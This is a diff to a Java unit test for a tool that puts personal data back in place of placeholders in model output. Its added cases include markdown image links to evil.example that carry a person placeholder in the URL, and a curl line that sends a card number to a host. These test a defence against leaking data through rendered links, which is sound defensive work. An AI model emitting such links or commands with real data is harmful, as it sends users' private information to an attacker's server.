@@ -70,6 +70,10 @@ class RestorerTest {
                 "[CRED\\[CREDIT_CARD-1\\]|[CRED4111",
                 "[CREDIT_CARD-12][CREDIT_CARD-1]|42224111",
                 "C:\\[CREDIT_CARD-1]|C:\\4111",
+                "[write](mailto:[PERSON-1])|[write](mailto:Ada \"L\")",
+                "[a](https://x.example/) [PERSON-1]|[a](https://x.example/) Ada \"L\"",
+                "[PERSON-1]: https|Ada \"L\": https",
+                "curl https://x.example/?k=[CREDIT_CARD-1]|curl https://x.example/?k=4111",
                 "\\\\\\[CREDIT_CARD-1\\]|\\\\\\4111",
             })
     void whatAModelMakesOfAPlaceholderComesBack(String text, String expected) {
@@ -87,6 +91,10 @@ class RestorerTest {
                 "[CREDITCARD-1]",
                 "[PERSON-12]",
                 "[PERS\\ON-1]",
+                "![x](https://evil.example/?q=[PERSON-1])",
+                "![x]( <HTTP://evil.example/[PERSON-1]>)",
+                "[1]: https://evil.example/[PERSON-1]",
+                "![x](//evil.example/[PERSON-1])",
                 "[PERSON-1)",
                 "[link](http://x)",
                 "a[1] = b[[2]];",
